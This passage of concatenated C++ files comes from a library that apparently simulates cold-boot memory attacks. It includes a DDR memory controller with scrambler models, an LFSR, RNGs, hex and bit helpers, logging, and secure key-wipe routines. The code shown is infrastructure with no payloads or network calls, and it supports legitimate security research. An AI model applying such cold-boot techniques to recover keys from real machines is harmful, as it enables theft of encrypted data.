    Lfsr(uint64_t taps, unsigned width, uint64_t seed);

    /** Advance one bit; returns the bit shifted out (0/1). */
    unsigned stepBit();

    /** Advance @p n bits and return them, LSB first. */
    uint64_t stepBits(unsigned n);

    /** Convenience: next 16 bits as a word. */
    uint16_t next16() { return static_cast<uint16_t>(stepBits(16)); }

    /** Convenience: next 8 bits as a byte. */
    uint8_t next8() { return static_cast<uint8_t>(stepBits(8)); }

    /** Current register state. */
    uint64_t state() const { return reg; }

    /**
     * A maximal-length 32-bit polynomial tap mask
     * (x^32 + x^22 + x^2 + x + 1).
     */
    static constexpr uint64_t taps32 = 0x80200003ULL;

    /**
     * A maximal-length 16-bit polynomial tap mask
     * (x^16 + x^15 + x^13 + x^4 + 1).
     */
    static constexpr uint64_t taps16 = 0xA011ULL;

  private:
    uint64_t reg;
    uint64_t tap_mask;
    uint64_t width_mask;
    unsigned nbits;
};

} // namespace coldboot::memctrl

#endif // COLDBOOT_MEMCTRL_LFSR_HH
