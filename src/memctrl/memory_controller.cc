#include "memctrl/memory_controller.hh"

#include "common/logging.hh"

namespace coldboot::memctrl
{

ScramblerFactory
defaultScramblerFactory(CpuGeneration gen)
{
    if (cpuUsesDdr4(gen)) {
        return [](uint64_t seed, unsigned channel) {
            return std::make_unique<Ddr4Scrambler>(seed, channel);
        };
    }
    return [](uint64_t seed, unsigned channel) {
        return std::make_unique<Ddr3Scrambler>(seed, channel);
    };
}

MemoryController::MemoryController(CpuGeneration gen, unsigned channels,
                                   uint64_t seed,
                                   ScramblerFactory factory)
    : amap(gen, channels), dimms(channels), scrambling(true)
{
    if (!factory)
        factory = defaultScramblerFactory(gen);
    auto &registry = obs::StatRegistry::global();
    for (unsigned c = 0; c < channels; ++c) {
        scramblers.push_back(factory(seed, c));
        std::string prefix = "memctrl.ch" + std::to_string(c);
        chan_counters.push_back(ChannelCounters{
            &registry.counter(prefix + ".reads",
                              "CPU-side 64-byte line reads"),
            &registry.counter(prefix + ".writes",
                              "CPU-side 64-byte line writes"),
            &registry.counter(prefix + ".bytes_scrambled",
                              "bytes passed through the (de)scrambler "
                              "in either direction")});
    }
}

void
MemoryController::attachDimm(unsigned channel,
                             std::shared_ptr<dram::DramModule> dimm)
{
    cb_assert(channel < dimms.size(), "attachDimm: channel %u",
              channel);
    if (dimms[channel])
        cb_fatal("attachDimm: channel %u slot already populated",
                 channel);
    dimms[channel] = std::move(dimm);
}

std::shared_ptr<dram::DramModule>
MemoryController::detachDimm(unsigned channel)
{
    cb_assert(channel < dimms.size(), "detachDimm: channel %u",
              channel);
    auto out = std::move(dimms[channel]);
    dimms[channel] = nullptr;
    return out;
}

dram::DramModule *
MemoryController::dimm(unsigned channel) const
{
    cb_assert(channel < dimms.size(), "dimm: channel %u", channel);
    return dimms[channel].get();
}

uint64_t
MemoryController::capacity() const
{
    uint64_t total = 0;
    for (const auto &d : dimms)
        if (d)
            total += d->size();
    return total;
}

void
MemoryController::reseed(uint64_t seed)
{
    for (unsigned c = 0; c < scramblers.size(); ++c)
        scramblers[c]->reseed(seed + c);
}

Scrambler &
MemoryController::scrambler(unsigned channel) const
{
    cb_assert(channel < scramblers.size(), "scrambler: channel %u",
              channel);
    return *scramblers[channel];
}

void
MemoryController::checkLine(uint64_t phys_addr, size_t len) const
{
    if (phys_addr % lineBytes != 0 || len != lineBytes)
        cb_fatal("memory controller line access must be 64-byte "
                 "aligned (addr=0x%llx len=%zu)",
                 static_cast<unsigned long long>(phys_addr), len);
}

void
MemoryController::writeLine(uint64_t phys_addr,
                            std::span<const uint8_t> data)
{
    checkLine(phys_addr, data.size());
    unsigned channel = amap.channelOf(phys_addr);
    dram::DramModule *module = dimms[channel].get();
    if (!module)
        cb_fatal("writeLine: channel %u has no DIMM", channel);

    chan_counters[channel].writes->add();
    uint8_t on_wire[lineBytes];
    if (scrambling) {
        scramblers[channel]->apply(phys_addr, data, on_wire);
        chan_counters[channel].bytes_scrambled->add(lineBytes);
    } else {
        std::copy(data.begin(), data.end(), on_wire);
    }
    module->write(amap.moduleAddress(phys_addr), {on_wire, lineBytes});
}

void
MemoryController::readLine(uint64_t phys_addr,
                           std::span<uint8_t> out) const
{
    checkLine(phys_addr, out.size());
    unsigned channel = amap.channelOf(phys_addr);
    dram::DramModule *module = dimms[channel].get();
    if (!module)
        cb_fatal("readLine: channel %u has no DIMM", channel);

    chan_counters[channel].reads->add();
    module->read(amap.moduleAddress(phys_addr), out);
    if (scrambling) {
        scramblers[channel]->apply(phys_addr, out, out);
        chan_counters[channel].bytes_scrambled->add(lineBytes);
    }
}

void
MemoryController::write(uint64_t phys_addr,
                        std::span<const uint8_t> data)
{
    cb_assert(phys_addr % lineBytes == 0 &&
              data.size() % lineBytes == 0,
              "write: must be line aligned");
    for (size_t off = 0; off < data.size(); off += lineBytes)
        writeLine(phys_addr + off, data.subspan(off, lineBytes));
}

void
MemoryController::read(uint64_t phys_addr, std::span<uint8_t> out) const
{
    cb_assert(phys_addr % lineBytes == 0 &&
              out.size() % lineBytes == 0,
              "read: must be line aligned");
    for (size_t off = 0; off < out.size(); off += lineBytes)
        readLine(phys_addr + off, out.subspan(off, lineBytes));
}

} // namespace coldboot::memctrl
