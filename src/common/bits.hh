/**
 * @file
 * Bit-level helpers used throughout the library: population counts,
 * Hamming distances over byte ranges, and bit-field extraction.
 */

#ifndef COLDBOOT_COMMON_BITS_HH
#define COLDBOOT_COMMON_BITS_HH

#include <bit>
#include <cstddef>
#include <cstdint>
#include <span>

namespace coldboot
{

/** Number of set bits in a 64-bit value. */
inline int
popcount64(uint64_t v)
{
    return std::popcount(v);
}

/**
 * Hamming distance between two equal-length byte ranges.
 *
 * @param a First byte range.
 * @param b Second byte range; must have the same length as @p a.
 * @return Total number of differing bits.
 */
size_t hammingDistance(std::span<const uint8_t> a,
                       std::span<const uint8_t> b);

/**
 * Hamming weight (number of set bits) of a byte range.
 */
size_t hammingWeight(std::span<const uint8_t> a);

/**
 * Extract bits [lo, hi] (inclusive, hi >= lo) from a 64-bit value,
 * right-justified.
 */
inline uint64_t
bitsOf(uint64_t v, unsigned hi, unsigned lo)
{
    unsigned width = hi - lo + 1;
    uint64_t mask = width >= 64 ? ~0ULL : ((1ULL << width) - 1);
    return (v >> lo) & mask;
}

/** Load a little-endian 16-bit value from a byte pointer. */
inline uint16_t
loadLE16(const uint8_t *p)
{
    return static_cast<uint16_t>(p[0] | (p[1] << 8));
}

/** Load a little-endian 32-bit value from a byte pointer. */
inline uint32_t
loadLE32(const uint8_t *p)
{
    return static_cast<uint32_t>(p[0]) |
           (static_cast<uint32_t>(p[1]) << 8) |
           (static_cast<uint32_t>(p[2]) << 16) |
           (static_cast<uint32_t>(p[3]) << 24);
}

/** Load a little-endian 64-bit value from a byte pointer. */
inline uint64_t
loadLE64(const uint8_t *p)
{
    return static_cast<uint64_t>(loadLE32(p)) |
           (static_cast<uint64_t>(loadLE32(p + 4)) << 32);
}

/** Store a 16-bit value to a byte pointer, little-endian. */
inline void
storeLE16(uint8_t *p, uint16_t v)
{
    p[0] = static_cast<uint8_t>(v);
    p[1] = static_cast<uint8_t>(v >> 8);
}

/** Store a 32-bit value to a byte pointer, little-endian. */
inline void
storeLE32(uint8_t *p, uint32_t v)
{
    p[0] = static_cast<uint8_t>(v);
    p[1] = static_cast<uint8_t>(v >> 8);
    p[2] = static_cast<uint8_t>(v >> 16);
    p[3] = static_cast<uint8_t>(v >> 24);
}

/** Store a 64-bit value to a byte pointer, little-endian. */
inline void
storeLE64(uint8_t *p, uint64_t v)
{
    storeLE32(p, static_cast<uint32_t>(v));
    storeLE32(p + 4, static_cast<uint32_t>(v >> 32));
}

/** Left-rotate a 32-bit value. */
inline uint32_t
rotl32(uint32_t v, unsigned n)
{
    return std::rotl(v, static_cast<int>(n));
}

/**
 * XOR the byte range @p src into @p dst (dst ^= src).
 *
 * Both ranges must have the same length.
 */
void xorBytes(std::span<uint8_t> dst, std::span<const uint8_t> src);

} // namespace coldboot

#endif // COLDBOOT_COMMON_BITS_HH
