#include "common/rng.hh"

#include <bit>

#include "common/logging.hh"

namespace coldboot
{

uint64_t
SplitMix64::next()
{
    uint64_t z = (state += 0x9e3779b97f4a7c15ULL);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
    return z ^ (z >> 31);
}

Xoshiro256StarStar::Xoshiro256StarStar(uint64_t seed)
{
    SplitMix64 seeder(seed);
    for (auto &word : s)
        word = seeder.next();
}

uint64_t
Xoshiro256StarStar::next()
{
    uint64_t result = std::rotl(s[1] * 5, 7) * 9;
    uint64_t t = s[1] << 17;

    s[2] ^= s[0];
    s[3] ^= s[1];
    s[1] ^= s[2];
    s[0] ^= s[3];
    s[2] ^= t;
    s[3] = std::rotl(s[3], 45);

    return result;
}

double
Xoshiro256StarStar::nextDouble()
{
    // 53 high bits -> [0, 1) with full double precision.
    return static_cast<double>(next() >> 11) * 0x1.0p-53;
}

uint64_t
Xoshiro256StarStar::nextBelow(uint64_t bound)
{
    cb_assert(bound != 0, "nextBelow: zero bound");
    // Rejection sampling to avoid modulo bias.
    uint64_t threshold = (0 - bound) % bound;
    for (;;) {
        uint64_t r = next();
        if (r >= threshold)
            return r % bound;
    }
}

void
Xoshiro256StarStar::fillBytes(std::span<uint8_t> out)
{
    size_t i = 0;
    for (; i + 8 <= out.size(); i += 8) {
        uint64_t v = next();
        for (int b = 0; b < 8; ++b)
            out[i + b] = static_cast<uint8_t>(v >> (8 * b));
    }
    if (i < out.size()) {
        uint64_t v = next();
        for (; i < out.size(); ++i) {
            out[i] = static_cast<uint8_t>(v);
            v >>= 8;
        }
    }
}

} // namespace coldboot
