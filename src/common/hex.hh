/**
 * @file
 * Hexadecimal formatting and parsing helpers.
 */

#ifndef COLDBOOT_COMMON_HEX_HH
#define COLDBOOT_COMMON_HEX_HH

#include <cstdint>
#include <span>
#include <string>
#include <vector>

namespace coldboot
{

/** Render a byte range as lowercase hex with no separators. */
std::string toHex(std::span<const uint8_t> bytes);

/**
 * Parse a hex string (no separators, even length) into bytes.
 *
 * fatal()s on malformed input.
 */
std::vector<uint8_t> fromHex(const std::string &hex);

/**
 * Render a classic 16-bytes-per-line hex dump with offsets, e.g. for
 * inspecting scrambler keys and memory blocks.
 *
 * @param bytes       Data to dump.
 * @param base_offset Offset printed for the first byte.
 */
std::string hexDump(std::span<const uint8_t> bytes,
                    uint64_t base_offset = 0);

} // namespace coldboot

#endif // COLDBOOT_COMMON_HEX_HH
