#include "common/bits.hh"

#include "common/logging.hh"

namespace coldboot
{

size_t
hammingDistance(std::span<const uint8_t> a, std::span<const uint8_t> b)
{
    cb_assert(a.size() == b.size(),
              "hammingDistance: length mismatch %zu vs %zu",
              a.size(), b.size());
    size_t dist = 0;
    size_t i = 0;
    for (; i + 8 <= a.size(); i += 8)
        dist += popcount64(loadLE64(&a[i]) ^ loadLE64(&b[i]));
    for (; i < a.size(); ++i)
        dist += std::popcount(static_cast<unsigned>(a[i] ^ b[i]));
    return dist;
}

size_t
hammingWeight(std::span<const uint8_t> a)
{
    size_t weight = 0;
    size_t i = 0;
    for (; i + 8 <= a.size(); i += 8)
        weight += popcount64(loadLE64(&a[i]));
    for (; i < a.size(); ++i)
        weight += std::popcount(static_cast<unsigned>(a[i]));
    return weight;
}

void
xorBytes(std::span<uint8_t> dst, std::span<const uint8_t> src)
{
    cb_assert(dst.size() == src.size(),
              "xorBytes: length mismatch %zu vs %zu",
              dst.size(), src.size());
    for (size_t i = 0; i < dst.size(); ++i)
        dst[i] ^= src[i];
}

} // namespace coldboot
