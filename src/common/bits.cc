#include "common/bits.hh"

#include "common/logging.hh"
#include "simd/simd.hh"

namespace coldboot
{

// The span-based helpers keep their length-check contract here and
// forward the byte sweeps to the dispatched SIMD kernels (scalar on
// hosts without vector backends; bit-identical either way).

size_t
hammingDistance(std::span<const uint8_t> a, std::span<const uint8_t> b)
{
    cb_assert(a.size() == b.size(),
              "hammingDistance: length mismatch %zu vs %zu",
              a.size(), b.size());
    return simd::hammingDistance(a.data(), b.data(), a.size());
}

size_t
hammingWeight(std::span<const uint8_t> a)
{
    return simd::hammingWeight(a.data(), a.size());
}

void
xorBytes(std::span<uint8_t> dst, std::span<const uint8_t> src)
{
    cb_assert(dst.size() == src.size(),
              "xorBytes: length mismatch %zu vs %zu",
              dst.size(), src.size());
    simd::xorBytes(dst.data(), src.data(), dst.size());
}

} // namespace coldboot
