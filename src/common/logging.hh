/**
 * @file
 * Status and error reporting helpers in the gem5 spirit.
 *
 * fatal()  - the run cannot continue because of a user-level problem
 *            (bad configuration, invalid argument); exits with code 1.
 * panic()  - an internal invariant was violated (a library bug); aborts.
 * warn()   - something is off but the run can continue.
 * inform() - plain status output.
 *
 * Runtime configuration (read once, on first use):
 *   COLDBOOT_LOG_LEVEL  = quiet|warn|info (or 0|1|2)
 *   COLDBOOT_LOG_FORMAT = plain|timestamped|json
 *
 * `timestamped` prefixes every line with a wall-clock timestamp;
 * `json` emits one JSON object per line ({"ts","level","msg"}) for
 * log scrapers. Level filtering and emission are thread-safe: the
 * level is an atomic, and each record is formatted into a single
 * string then written under one lock (no interleaved lines).
 */

#ifndef COLDBOOT_COMMON_LOGGING_HH
#define COLDBOOT_COMMON_LOGGING_HH

#include <cstdio>
#include <cstdlib>
#include <string>

namespace coldboot
{

/** Verbosity levels accepted by setLogLevel(). */
enum class LogLevel { Quiet, Warn, Info };

/** Line formats accepted by setLogFormat(). */
enum class LogFormat { Plain, Timestamped, JsonLines };

/** Set the global verbosity; defaults to LogLevel::Info. */
void setLogLevel(LogLevel level);

/** Current global verbosity. */
LogLevel logLevel();

/** Set the global line format; defaults to LogFormat::Plain. */
void setLogFormat(LogFormat format);

/** Current global line format. */
LogFormat logFormat();

/**
 * Observer invoked (after emission, outside the emit lock) for every
 * warn/inform record that passes the level filter. @p level is 0 for
 * warn, 1 for inform. Must be fast and must not log. The obs flight
 * recorder installs one so log records land in the crash rings;
 * cb_common itself never depends on the observer.
 */
using LogHook = void (*)(int level, const char *msg);

/**
 * Observer invoked by cb_fatal after the message is emitted, just
 * before std::exit(1) - the flight recorder's chance to write its
 * post-mortem dump. Not called for cb_panic: that path aborts, and
 * SIGABRT already reaches the crash-signal handler.
 */
using FatalHook = void (*)(const char *msg);

/** Install (or with nullptr, remove) the log observer. */
void setLogHook(LogHook hook);

/** Install (or with nullptr, remove) the fatal observer. */
void setFatalHook(FatalHook hook);

namespace detail
{

[[noreturn]] void fatalImpl(const char *file, int line,
                            const std::string &msg);
[[noreturn]] void panicImpl(const char *file, int line,
                            const std::string &msg);
void warnImpl(const std::string &msg);
void informImpl(const std::string &msg);

/** printf-style formatting into a std::string. */
std::string format(const char *fmt, ...)
    __attribute__((format(printf, 1, 2)));

/**
 * Re-read COLDBOOT_LOG_LEVEL / COLDBOOT_LOG_FORMAT. Called once
 * automatically before the first log record; exposed so tests can
 * change the environment mid-process.
 */
void reinitLoggingFromEnv();

} // namespace detail

} // namespace coldboot

/** Terminate with a user-error message (exit code 1). */
#define cb_fatal(...)                                                     \
    ::coldboot::detail::fatalImpl(__FILE__, __LINE__,                     \
                                  ::coldboot::detail::format(__VA_ARGS__))

/** Abort on a violated internal invariant. */
#define cb_panic(...)                                                     \
    ::coldboot::detail::panicImpl(__FILE__, __LINE__,                     \
                                  ::coldboot::detail::format(__VA_ARGS__))

/** Warn but keep going. */
#define cb_warn(...)                                                      \
    ::coldboot::detail::warnImpl(::coldboot::detail::format(__VA_ARGS__))

/** Informational status output. */
#define cb_inform(...)                                                    \
    ::coldboot::detail::informImpl(::coldboot::detail::format(__VA_ARGS__))

/** panic() with the given message unless the condition holds. */
#define cb_assert(cond, ...)                                              \
    do {                                                                  \
        if (!(cond))                                                      \
            cb_panic(__VA_ARGS__);                                        \
    } while (0)

#endif // COLDBOOT_COMMON_LOGGING_HH
