#include "common/hex.hh"

#include <cctype>

#include "common/logging.hh"

namespace coldboot
{

namespace
{

const char hexDigits[] = "0123456789abcdef";

int
nibble(char c)
{
    if (c >= '0' && c <= '9')
        return c - '0';
    if (c >= 'a' && c <= 'f')
        return c - 'a' + 10;
    if (c >= 'A' && c <= 'F')
        return c - 'A' + 10;
    return -1;
}

} // anonymous namespace

std::string
toHex(std::span<const uint8_t> bytes)
{
    std::string out;
    out.reserve(bytes.size() * 2);
    for (uint8_t b : bytes) {
        out.push_back(hexDigits[b >> 4]);
        out.push_back(hexDigits[b & 0xf]);
    }
    return out;
}

std::vector<uint8_t>
fromHex(const std::string &hex)
{
    if (hex.size() % 2 != 0)
        cb_fatal("fromHex: odd-length hex string (%zu chars)", hex.size());
    std::vector<uint8_t> out(hex.size() / 2);
    for (size_t i = 0; i < out.size(); ++i) {
        int hi = nibble(hex[2 * i]);
        int lo = nibble(hex[2 * i + 1]);
        if (hi < 0 || lo < 0)
            cb_fatal("fromHex: bad hex digit at position %zu", 2 * i);
        out[i] = static_cast<uint8_t>((hi << 4) | lo);
    }
    return out;
}

std::string
hexDump(std::span<const uint8_t> bytes, uint64_t base_offset)
{
    std::string out;
    char line[96];
    for (size_t row = 0; row < bytes.size(); row += 16) {
        int n = std::snprintf(line, sizeof(line), "%08llx  ",
                              static_cast<unsigned long long>(
                                  base_offset + row));
        out.append(line, static_cast<size_t>(n));
        for (size_t col = 0; col < 16; ++col) {
            if (row + col < bytes.size()) {
                uint8_t b = bytes[row + col];
                out.push_back(hexDigits[b >> 4]);
                out.push_back(hexDigits[b & 0xf]);
            } else {
                out.append("  ");
            }
            out.push_back(col == 7 ? ' ' : ' ');
        }
        out.append(" |");
        for (size_t col = 0; col < 16 && row + col < bytes.size(); ++col) {
            uint8_t b = bytes[row + col];
            out.push_back(std::isprint(b) ? static_cast<char>(b) : '.');
        }
        out.append("|\n");
    }
    return out;
}

} // namespace coldboot
