/**
 * @file
 * Small strong-ish unit helpers for the timing models.
 *
 * Time is represented in picoseconds as int64_t throughout the engine
 * and DRAM timing code; these helpers keep conversions readable and
 * centralize rounding decisions.
 */

#ifndef COLDBOOT_COMMON_UNITS_HH
#define COLDBOOT_COMMON_UNITS_HH

#include <cstdint>

namespace coldboot
{

/** Simulation time in picoseconds. */
using Picoseconds = int64_t;

/** Convert nanoseconds to picoseconds. */
constexpr Picoseconds
nsToPs(double ns)
{
    return static_cast<Picoseconds>(ns * 1000.0 + 0.5);
}

/** Convert picoseconds to nanoseconds. */
constexpr double
psToNs(Picoseconds ps)
{
    return static_cast<double>(ps) / 1000.0;
}

/**
 * Clock period in picoseconds for a frequency in GHz (rounded to the
 * nearest picosecond).
 */
constexpr Picoseconds
periodPsFromGHz(double ghz)
{
    return static_cast<Picoseconds>(1000.0 / ghz + 0.5);
}

/** Megabytes to bytes. */
constexpr uint64_t
MiB(uint64_t n)
{
    return n << 20;
}

/** Kilobytes to bytes. */
constexpr uint64_t
KiB(uint64_t n)
{
    return n << 10;
}

} // namespace coldboot

#endif // COLDBOOT_COMMON_UNITS_HH
