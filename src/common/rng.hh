/**
 * @file
 * Deterministic pseudo-random number generators.
 *
 * These generators serve two distinct roles:
 *  - SplitMix64 seeds other generators and produces quick mixing steps.
 *  - Xoshiro256StarStar generates bulk test data, workload contents,
 *    and stochastic decay decisions.
 *
 * Neither is cryptographically secure; the cryptographic primitives in
 * src/crypto are used where security matters. Determinism given a seed
 * is a hard requirement so experiments are reproducible.
 */

#ifndef COLDBOOT_COMMON_RNG_HH
#define COLDBOOT_COMMON_RNG_HH

#include <cstdint>
#include <span>

namespace coldboot
{

/**
 * SplitMix64: tiny, fast, passes BigCrush; the canonical seeder for
 * xoshiro-family generators.
 */
class SplitMix64
{
  public:
    explicit SplitMix64(uint64_t seed) : state(seed) {}

    /** Next 64-bit output. */
    uint64_t next();

  private:
    uint64_t state;
};

/**
 * xoshiro256** by Blackman and Vigna; the general-purpose generator
 * used for workloads and stochastic models.
 */
class Xoshiro256StarStar
{
  public:
    /** Seed all 256 bits of state from a single 64-bit seed. */
    explicit Xoshiro256StarStar(uint64_t seed);

    /** Next 64-bit output. */
    uint64_t next();

    /** Uniform double in [0, 1). */
    double nextDouble();

    /** Uniform integer in [0, bound). @p bound must be nonzero. */
    uint64_t nextBelow(uint64_t bound);

    /** Fill a byte range with random data. */
    void fillBytes(std::span<uint8_t> out);

    /** Bernoulli trial with probability @p p of returning true. */
    bool chance(double p) { return nextDouble() < p; }

  private:
    uint64_t s[4];
};

} // namespace coldboot

#endif // COLDBOOT_COMMON_RNG_HH
