/**
 * @file
 * Secret-hygiene primitives: guaranteed memory wiping.
 *
 * A cold-boot reproduction is exactly the wrong place to scrub key
 * material with plain std::memset: the call is dead-store-eliminable
 * when the buffer is not read afterwards, which is precisely the
 * wipe-before-free pattern. secureWipe() performs the stores through
 * a volatile pointer and ends with a compiler barrier, so the zeros
 * are written regardless of optimization level. The in-tree
 * `coldboot-lint` secret-wipe rule bans memset/bzero on identifiers
 * that look like key material and points here instead.
 */

#ifndef COLDBOOT_COMMON_SECURE_HH
#define COLDBOOT_COMMON_SECURE_HH

#include <cstddef>
#include <cstdint>
#include <span>
#include <vector>

namespace coldboot
{

/**
 * Zero @p n bytes at @p p with stores the optimizer cannot elide
 * (volatile writes followed by a compiler barrier; the moral
 * equivalent of C11 memset_s).
 */
void secureWipe(void *p, size_t n);

/** Wipe the contents of a byte span. */
inline void
secureWipe(std::span<uint8_t> bytes)
{
    secureWipe(bytes.data(), bytes.size());
}

/** Wipe a byte vector's contents (size and capacity unchanged). */
inline void
secureWipe(std::vector<uint8_t> &bytes)
{
    secureWipe(bytes.data(), bytes.size());
}

/**
 * A heap byte buffer that wipes itself on destruction.
 *
 * For transient key material (derived header keys, unpacked master
 * keys, candidate schedules): hold it in a SecureBuffer and the bytes
 * are guaranteed gone when the buffer goes out of scope, including on
 * early returns and exceptions. Movable, not copyable - copies of
 * secrets should be deliberate.
 */
class SecureBuffer
{
  public:
    SecureBuffer() = default;

    /** Allocate @p n zeroed bytes. */
    explicit SecureBuffer(size_t n) : bytes(n, 0) {}

    /** Copy @p contents into a fresh buffer. */
    explicit SecureBuffer(std::span<const uint8_t> contents)
        : bytes(contents.begin(), contents.end())
    {
    }

    SecureBuffer(const SecureBuffer &) = delete;
    SecureBuffer &operator=(const SecureBuffer &) = delete;

    SecureBuffer(SecureBuffer &&other) noexcept
    {
        bytes.swap(other.bytes);
    }

    SecureBuffer &
    operator=(SecureBuffer &&other) noexcept
    {
        if (this != &other) {
            wipe();
            bytes.swap(other.bytes);
        }
        return *this;
    }

    ~SecureBuffer() { wipe(); }

    uint8_t *data() { return bytes.data(); }
    const uint8_t *data() const { return bytes.data(); }
    size_t size() const { return bytes.size(); }
    bool empty() const { return bytes.empty(); }

    uint8_t &operator[](size_t i) { return bytes[i]; }
    uint8_t operator[](size_t i) const { return bytes[i]; }

    std::span<uint8_t> span() { return {bytes.data(), bytes.size()}; }
    std::span<const uint8_t> span() const
    {
        return {bytes.data(), bytes.size()};
    }

    /** Wipe and release the storage now. */
    void
    wipe()
    {
        secureWipe(bytes.data(), bytes.size());
        bytes.clear();
        bytes.shrink_to_fit();
    }

  private:
    std::vector<uint8_t> bytes;
};

} // namespace coldboot

#endif // COLDBOOT_COMMON_SECURE_HH
