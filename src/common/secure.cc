#include "common/secure.hh"

namespace coldboot
{

void
secureWipe(void *p, size_t n)
{
    if (p == nullptr || n == 0)
        return;
    // Volatile qualifies each store so the compiler must emit it; the
    // trailing asm barrier tells the optimizer the memory is observed,
    // which stops the whole loop from being treated as a dead store
    // even under LTO.
    volatile uint8_t *bytes = static_cast<volatile uint8_t *>(p);
    for (size_t i = 0; i < n; ++i)
        bytes[i] = 0;
    __asm__ __volatile__("" : : "r"(p) : "memory");
}

} // namespace coldboot
