#include "common/logging.hh"

#include <cstdarg>
#include <cstdio>

namespace coldboot
{

namespace
{

LogLevel globalLevel = LogLevel::Info;

} // anonymous namespace

void
setLogLevel(LogLevel level)
{
    globalLevel = level;
}

LogLevel
logLevel()
{
    return globalLevel;
}

namespace detail
{

std::string
format(const char *fmt, ...)
{
    va_list args;
    va_start(args, fmt);
    va_list args_copy;
    va_copy(args_copy, args);
    int len = std::vsnprintf(nullptr, 0, fmt, args);
    va_end(args);
    if (len < 0) {
        va_end(args_copy);
        return "<format error>";
    }
    std::string out(static_cast<size_t>(len), '\0');
    std::vsnprintf(out.data(), out.size() + 1, fmt, args_copy);
    va_end(args_copy);
    return out;
}

void
fatalImpl(const char *file, int line, const std::string &msg)
{
    std::fprintf(stderr, "fatal: %s (%s:%d)\n", msg.c_str(), file, line);
    std::exit(1);
}

void
panicImpl(const char *file, int line, const std::string &msg)
{
    std::fprintf(stderr, "panic: %s (%s:%d)\n", msg.c_str(), file, line);
    std::abort();
}

void
warnImpl(const std::string &msg)
{
    if (globalLevel >= LogLevel::Warn)
        std::fprintf(stderr, "warn: %s\n", msg.c_str());
}

void
informImpl(const std::string &msg)
{
    if (globalLevel >= LogLevel::Info)
        std::fprintf(stdout, "info: %s\n", msg.c_str());
}

} // namespace detail

} // namespace coldboot
