#include "common/logging.hh"

#include <atomic>
#include <cstdarg>
#include <cstdio>
#include <cstring>
#include <ctime>
#include <mutex>

#include <sys/time.h>

namespace coldboot
{

namespace
{

std::atomic<LogLevel> globalLevel{LogLevel::Info};
std::atomic<LogFormat> globalFormat{LogFormat::Plain};
std::atomic<LogHook> globalLogHook{nullptr};
std::atomic<FatalHook> globalFatalHook{nullptr};
std::once_flag envInitOnce;
std::mutex emitMutex;

/** "2026-08-05T22:49:01.123" in local time. */
std::string
timestampNow()
{
    struct timeval tv;
    // coldboot-lint: allow(no-wallclock-in-sim) -- log timestamp, not sim
    gettimeofday(&tv, nullptr);
    struct tm tm_buf;
    // coldboot-lint: allow(no-wallclock-in-sim) -- formats the log stamp
    localtime_r(&tv.tv_sec, &tm_buf);
    char buf[40];
    // coldboot-lint: allow(no-wallclock-in-sim) -- formats the log stamp
    size_t len = strftime(buf, sizeof(buf), "%Y-%m-%dT%H:%M:%S",
                          &tm_buf);
    std::snprintf(buf + len, sizeof(buf) - len, ".%03d",
                  static_cast<int>(tv.tv_usec / 1000));
    return buf;
}

/**
 * Minimal JSON string escape. Deliberately local: cb_common sits
 * below cb_obs, so the obs::json helpers are not linkable here.
 */
std::string
jsonEscape(const std::string &s)
{
    std::string out;
    out.reserve(s.size() + 8);
    for (unsigned char c : s) {
        switch (c) {
        case '"': out += "\\\""; break;
        case '\\': out += "\\\\"; break;
        case '\n': out += "\\n"; break;
        case '\r': out += "\\r"; break;
        case '\t': out += "\\t"; break;
        default:
            if (c < 0x20) {
                char buf[8];
                std::snprintf(buf, sizeof(buf), "\\u%04x", c);
                out += buf;
            } else {
                out += static_cast<char>(c);
            }
        }
    }
    return out;
}

/**
 * Format one record and write it with a single fprintf under the
 * emission lock - concurrent log lines never interleave.
 */
void
ensureEnvInit()
{
    std::call_once(envInitOnce, detail::reinitLoggingFromEnv);
}

void
emit(FILE *to, const char *level, const std::string &msg)
{
    ensureEnvInit();
    std::string line;
    switch (globalFormat.load(std::memory_order_relaxed)) {
    case LogFormat::Plain:
        line = std::string(level) + ": " + msg + "\n";
        break;
    case LogFormat::Timestamped:
        line = timestampNow() + " " + level + ": " + msg + "\n";
        break;
    case LogFormat::JsonLines:
        line = "{\"ts\":\"" + timestampNow() + "\",\"level\":\"" +
               level + "\",\"msg\":\"" + jsonEscape(msg) + "\"}\n";
        break;
    }
    std::lock_guard<std::mutex> lock(emitMutex);
    std::fputs(line.c_str(), to);
}

} // anonymous namespace

void
setLogLevel(LogLevel level)
{
    globalLevel.store(level, std::memory_order_relaxed);
}

LogLevel
logLevel()
{
    return globalLevel.load(std::memory_order_relaxed);
}

void
setLogFormat(LogFormat format)
{
    globalFormat.store(format, std::memory_order_relaxed);
}

LogFormat
logFormat()
{
    return globalFormat.load(std::memory_order_relaxed);
}

void
setLogHook(LogHook hook)
{
    globalLogHook.store(hook, std::memory_order_release);
}

void
setFatalHook(FatalHook hook)
{
    globalFatalHook.store(hook, std::memory_order_release);
}

namespace detail
{

void
reinitLoggingFromEnv()
{
    if (const char *level = std::getenv("COLDBOOT_LOG_LEVEL")) {
        if (!std::strcmp(level, "quiet") || !std::strcmp(level, "0"))
            setLogLevel(LogLevel::Quiet);
        else if (!std::strcmp(level, "warn") ||
                 !std::strcmp(level, "1"))
            setLogLevel(LogLevel::Warn);
        else if (!std::strcmp(level, "info") ||
                 !std::strcmp(level, "2"))
            setLogLevel(LogLevel::Info);
        else
            std::fprintf(stderr,
                         "warn: COLDBOOT_LOG_LEVEL='%s' not "
                         "recognized (want quiet|warn|info)\n",
                         level);
    }
    if (const char *format = std::getenv("COLDBOOT_LOG_FORMAT")) {
        if (!std::strcmp(format, "plain"))
            setLogFormat(LogFormat::Plain);
        else if (!std::strcmp(format, "timestamped"))
            setLogFormat(LogFormat::Timestamped);
        else if (!std::strcmp(format, "json"))
            setLogFormat(LogFormat::JsonLines);
        else
            std::fprintf(stderr,
                         "warn: COLDBOOT_LOG_FORMAT='%s' not "
                         "recognized (want plain|timestamped|"
                         "json)\n",
                         format);
    }
}

std::string
format(const char *fmt, ...)
{
    va_list args;
    va_start(args, fmt);
    va_list args_copy;
    va_copy(args_copy, args);
    int len = std::vsnprintf(nullptr, 0, fmt, args);
    va_end(args);
    if (len < 0) {
        va_end(args_copy);
        return "<format error>";
    }
    std::string out(static_cast<size_t>(len), '\0');
    std::vsnprintf(out.data(), out.size() + 1, fmt, args_copy);
    va_end(args_copy);
    return out;
}

void
fatalImpl(const char *file, int line, const std::string &msg)
{
    emit(stderr, "fatal",
